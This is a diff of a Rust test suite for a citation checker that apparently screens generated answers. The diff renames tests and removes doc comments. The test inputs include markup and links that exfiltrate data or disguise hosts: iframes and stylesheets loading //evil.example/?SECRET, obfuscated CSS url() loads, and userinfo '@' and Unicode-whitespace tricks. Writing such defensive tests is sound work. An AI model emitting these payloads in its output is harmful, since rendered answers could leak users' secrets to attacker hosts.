@@ -14,13 +14,11 @@ fn sources() -> Sources {
     found.iter().collect()
 }
 
-/// Returns the unsupported targets in `answer`.
 fn unsupported(answer: &str) -> Vec<String> {
     let citations = check_citations(answer, &sources());
     citations.into_iter().filter(|one| !one.is_supported()).map(|one| one.target).collect()
 }
 
-/// Returns the source of the first citation in `answer`.
 fn first_source(answer: &str) -> Option<usize> {
     check_citations(answer, &sources()).first().unwrap().source
 }
@@ -39,7 +37,7 @@ fn assert_refused(answer: &str) {
 }
 
 #[test]
-fn what_reads_like_an_attribute_hides_no_address_after_it() {
+fn fake_attributes_hide_no_address() {
     for (answer, target) in [
         (
             "read <a title='src=\"https://known.example/1#' href=\"//evil.example/x\">this</a>",
@@ -81,7 +79,7 @@ fn an_attribute_with_markup_in_it_is_refused() {
 }
 
 #[test]
-fn markup_that_goes_on_in_markdown_is_refused() {
+fn markup_that_continues_in_markdown_is_refused() {
     for answer in [
         "<iframe title='\n\n' src=//evil.example/?SECRET x",
         "<link title='\n\n' rel=stylesheet href=//evil.example/x x",
@@ -101,7 +99,7 @@ fn markup_that_goes_on_in_markdown_is_refused() {
 }
 
 #[test]
-fn white_space_beyond_ascii_is_a_part_of_a_link() {
+fn non_ascii_white_space_is_part_of_a_link() {
     for answer in [
         "<a href=https://host.example\u{a0}@evil.example/x>x</a>",
         "See https://host.example\u{a0}@evil.example/x",
@@ -116,7 +114,7 @@ fn white_space_beyond_ascii_is_a_part_of_a_link() {
 }
 
 #[test]
-fn an_address_of_a_source_in_html_is_supported_and_cited_once() {
+fn a_sources_address_in_html_is_cited_once() {
     for answer in [
         "<a href=\"https://known.example/1#part\">x</a>",
         "<a href=' https://known.example/1 '>x</a>",
@@ -152,7 +150,7 @@ fn a_link_to_any_host_counts_in_text() {
 }
 
 #[test]
-fn a_host_that_goes_on_behind_what_looks_like_its_end_is_another() {
+fn a_host_that_continues_after_its_apparent_end_differs() {
     for link in ["https://host.example\"@evil.example/x", "https://host.example'@evil.example"] {
         assert_eq!(unsupported(&format!("See {link}")), [link]);
     }
@@ -165,14 +163,14 @@ fn a_host_that_goes_on_behind_what_looks_like_its_end_is_another() {
 }
 
 #[test]
-fn the_beginning_of_a_link_alone_is_none() {
+fn a_link_prefix_alone_is_no_link() {
     for answer in ["http://", "It begins with https:// or www.", "www...", "<p>a // b (//)</p>"] {
         assert_eq!(check_citations(answer, &sources()), [], "{answer}");
     }
 }
 
 #[test]
-fn html_that_loads_by_a_style_or_another_attribute_is_refused() {
+fn html_that_loads_resources_is_refused() {
     for answer in [
         "<div style=\"background:url(//evil.example/x)\">a</div>",
         "<b style=\"background:\\75rl(/\\/evil.example/x)\">a</b>",
@@ -187,7 +185,7 @@ fn html_that_loads_by_a_style_or_another_attribute_is_refused() {
 }
 
 #[test]
-fn a_word_of_a_definition_that_is_also_the_link_of_a_file_is_no_support() {
+fn a_word_that_equals_a_file_link_is_no_support() {
     let source = |definition: &str| first_source(&format!("So.[^1]\n\n[^1]: {definition}\n"));
     assert_eq!(source("Smith 2019, under the LICENSE of Nature."), None);
     assert_eq!(source("Smith 2019, under the LICENSE/ of Nature."), None);
@@ -198,14 +196,14 @@ fn a_word_of_a_definition_that_is_also_the_link_of_a_file_is_no_support() {
 }
 
 #[test]
-fn of_two_definitions_of_a_label_the_first_counts() {
+fn the_first_definition_of_a_label_counts() {
     assert_eq!(first_source("So.[^a]\n\n[^a]: Smith 2019\n\n[^a]: Known 1\n"), None);
     assert_eq!(first_source("So.[^a]\n\n[^a]: Known 1\n\n[^a]: Smith 2019\n"), Some(1));
     assert_eq!(first_source("So.[^A]\n\n[^a]: Known 1\n"), Some(1));
 }
 
 #[test]
-fn a_definition_goes_on_after_one_within_it() {
+fn a_definition_continues_after_a_nested_one() {
     for inner in ["[^2]: x", "- [^2]: x", "> [^2]: x", "[^2]: x\n\n        [^3]: y"] {
         let answer = format!("So.[^1]\n\n[^1]: Known 1\n\n    {inner}\n\n    says Smith 2019\n");
         assert_eq!(first_source(&answer), None, "{answer}");
@@ -215,7 +213,7 @@ fn a_definition_goes_on_after_one_within_it() {
 }
 
 #[test]
-fn what_is_shown_apart_is_not_read_as_one_name() {
+fn separate_texts_do_not_form_one_name() {
     for definition in [
         "- Kno\n    - wn 1",
         "Kno\n\n    wn 1",
@@ -232,7 +230,7 @@ fn what_is_shown_apart_is_not_read_as_one_name() {
 }
 
 #[test]
-fn a_label_that_is_a_number_is_the_same_with_zeros_before_it() {
+fn leading_zeros_of_a_numeric_label_do_not_count() {
     assert_eq!(first_source("So.[^01]\n\n[^1]: Smith 2019\n"), None);
     assert_eq!(first_source("So.[^1]\n\n[^01]: Smith 2019\n"), None);
     assert_eq!(first_source("So.[^01]\n\n[^1]: The licence\n"), Some(2));
@@ -263,7 +261,7 @@ fn programs_in_html_are_never_supported() {
 }
 
 #[test]
-fn a_host_that_goes_on_in_emphasis_is_another() {
+fn a_host_that_continues_in_emphasis_differs() {
     for (answer, target) in [
         ("https://known.example*a@evil.example/*x", "https://known.example*a@evil.example/*x"),
         ("https://host.example*a@evil.example/x*", "https://host.examplea@evil.example/x"),
@@ -346,7 +344,7 @@ fn a_url_in_code_that_is_rendered_is_reported() {
 }
 
 #[test]
-fn a_link_that_goes_on_behind_punctuation_is_another() {
+fn a_link_that_continues_after_punctuation_differs() {
     for link in [
         "https://known.example/1*q=SECRET",
         "https://known.example/1|?q=SECRET",
